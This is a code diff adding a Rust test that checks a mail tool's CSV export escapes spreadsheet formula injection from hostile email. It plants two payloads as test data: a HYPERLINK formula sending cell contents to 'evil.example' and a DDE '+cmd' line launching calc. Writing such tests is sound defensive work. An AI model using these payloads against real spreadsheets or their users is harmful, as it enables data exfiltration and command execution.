@@ -465,3 +465,46 @@ fn metrics_endpoint_bounds_concurrent_connections() {
         http_get(port, "/metrics").0 == 200
     });
 }
+
+/// A mail sender controls subjects, bodies and addresses: `activities export --format csv`
+/// must not hand a spreadsheet a formula.
+#[test]
+fn csv_export_of_hostile_mail_holds_no_formula() {
+    let e = env();
+    e.write_config(&[("alice", "alice", TRACKED)], "");
+    let mut imap = e.imap("alice");
+    imap.create("INBOX/Tracked");
+    let mut m = message(
+        "bob@acme.com",
+        "alice@example.com",
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        Some("<f1@x>"),
+    );
+    let body =
+        String::from_utf8(m.split_off(m.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4))
+            .unwrap();
+    assert!(body.starts_with("Body of"));
+    m.extend_from_slice(b"+cmd|' /C calc'!A0\r\n");
+    imap.append("INBOX/Tracked", &m);
+    e.ok(&["sync"]);
+    let csv = e.ok(&["activities", "export", "--format", "csv"]);
+    let mut rdr = csv::Reader::from_reader(csv.as_bytes());
+    let headers = rdr.headers().unwrap().clone();
+    let row = rdr.records().next().unwrap().unwrap();
+    let cell = |name: &str| &row[headers.iter().position(|h| h == name).unwrap()];
+    assert_eq!(
+        cell("subject"),
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    );
+    assert!(
+        cell("body_text").starts_with("'+cmd"),
+        "{}",
+        cell("body_text")
+    );
+    for c in row.iter() {
+        assert!(
+            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a formula cell: {c:?}"
+        );
+    }
+}
